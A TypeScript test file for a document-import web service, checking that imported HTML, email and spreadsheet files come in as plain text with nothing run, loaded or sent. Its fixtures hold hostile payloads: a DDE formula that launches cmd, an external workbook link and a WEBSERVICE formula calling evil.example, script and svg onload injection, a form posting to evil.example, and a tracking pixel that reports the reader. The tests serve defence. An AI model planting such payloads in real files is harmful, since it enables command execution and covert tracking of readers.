import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DocumentContents, DocumentList, Imported } from '../../src/web/api/index.js';
import { zip } from '../read/make.js';
import { type Asked, askedCase } from './served-case.js';

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATED = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A workbook that asks another file and another program for its cells. */
const linkedWorkbook = () =>
  new Uint8Array(
    zip({
      '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
      'xl/workbook.xml': `${XML}<workbook xmlns="${SHEET}" xmlns:r="${RELATED}"><sheets><sheet name="Pay" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
      'xl/_rels/workbook.xml.rels': `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${RELATED}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${RELATED}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
      'xl/externalLinks/externalLink1.xml': `${XML}<externalLink xmlns="${SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${RELATED}/externalLinkPath" Target="http://evil.example/book.xlsx" TargetMode="External"/></Relationships>`,
      'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="${SHEET}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>note</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Ana Prado</t></is></c><c r="B2" t="str"><f>cmd|'/c calc'!A0</f><v>seen before</v></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>Luis Ferro</t></is></c><c r="B3" t="inlineStr"><is><t>=WEBSERVICE("http://evil.example")</t></is></c></row></sheetData></worksheet>`,
    }),
  );

const GOOD = 'Ana Prado paid Luis Ferro at the dock of Puerto Sol in May 2019, two officials said.';

/** Documents that would load, run or send something where a browser or an office program opened them. */
const FILES: Record<string, () => string | Uint8Array<ArrayBuffer>> = {
  'drawing.html': () =>
    `<!doctype html><html lang="en"><head><title>Dock</title></head><body><article><p>${GOOD}</p>
<svg onload="alert(1)"><script href="http://evil.example/s.js">alert(2)</script><image href="http://evil.example/i.png"/><use href="http://evil.example/u.svg#a"/><foreignObject><iframe src="http://evil.example"></iframe></foreignObject><text>drawn words</text></svg><p>${GOOD}</p></article></body></html>`,
  'elsewhere.html': () =>
    `<!doctype html><html lang="en"><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css"><title>Dock</title></head><body><p>${GOOD}</p><form action="http://evil.example/"><input name="a"></form></body></html>`,
  'letter.eml': () =>
    `From: Ana Prado <ana@post.example>\r\nTo: luis@post.example\r\nDate: Tue, 14 May 2019 10:00:00 +0000\r\nSubject: The dock\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>${GOOD}</p><img src="http://evil.example/seen.gif?who=ana" width="1" height="1"><img src="cid:none"><div style="background:url(http://evil.example/b.png)"></div><script>alert(1)</script></body></html>`,
  'linked.xlsx': linkedWorkbook,
};

describe('attacks by what documents hold', () => {
  let it_: Asked;
  let asked: string[];
  const real = globalThis.fetch;
  beforeAll(async () => {
    it_ = await askedCase();
    asked = [];
    globalThis.fetch = (async (address: string | URL | Request) => {
      asked.push(String(address));
      throw new Error('nothing is fetched');
    }) as typeof fetch;
  });
  afterAll(async () => {
    globalThis.fetch = real;
    await it_.close();
  });

  it.each(Object.keys(FILES))('%s is read as its words; nothing of it is run, loaded or sent', async (name) => {
    const { failures, added } = (await it_.takeIn({ [name]: FILES[name]!() })).result as Imported;
    expect([failures, added]).toEqual([[], 1]);
    const list = await it_.get<DocumentList>('/documents');
    const document = list.body.documents.find((each) => each.name.endsWith(name))!;
    const { body } = await it_.get<DocumentContents>(`/documents/${document.id}`);
    expect(body.document.text).toContain('Ana Prado');
    expect(body.document.text).not.toMatch(/alert\(|<svg|<script|<img|evil\.example\/|calc/);
    expect(asked).toEqual([]);
    const original = await it_.app.request(`/originals/${document.id}`, { headers: { host: 'localhost' } });
    expect(original.headers.get('content-type')).toBe('application/octet-stream');
    expect(original.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(original.headers.get('content-security-policy')).toContain("default-src 'none'");
  });

  it('a body of ten thousand parts is one file of no kind that is read, or no form that a route takes', async () => {
    const { body: upload } = await it_.change<{ id: string }>('POST', '/uploads');
    const part = (at: number) =>
      `--x\r\nContent-Disposition: form-data; name="f${at}"; filename="f${at}.txt"\r\n\r\nA\r\n`;
    const parts = `${Array.from({ length: 10_000 }, (_, at) => part(at)).join('')}--x--\r\n`;
    const send = async (path: string) =>
      await it_.app.request(path, {
        method: 'POST',
        headers: {
          host: 'localhost',
          'x-atalaya-token': 'token-of-the-tests',
          'content-type': 'multipart/form-data; boundary=x',
        },
        body: parts,
      });
    const since = performance.now();
    const received = await send(`/api/uploads/${upload.id}/files?name=many`);
    expect([received.status, await received.json()]).toEqual([200, { name: 'many', size: parts.length }]);
    const form = await send('/api/statements');
    expect(form.status).toBeGreaterThanOrEqual(400);
    expect(form.status).toBeLessThan(500);
    expect(performance.now() - since).toBeLessThan(10_000);
  });
});
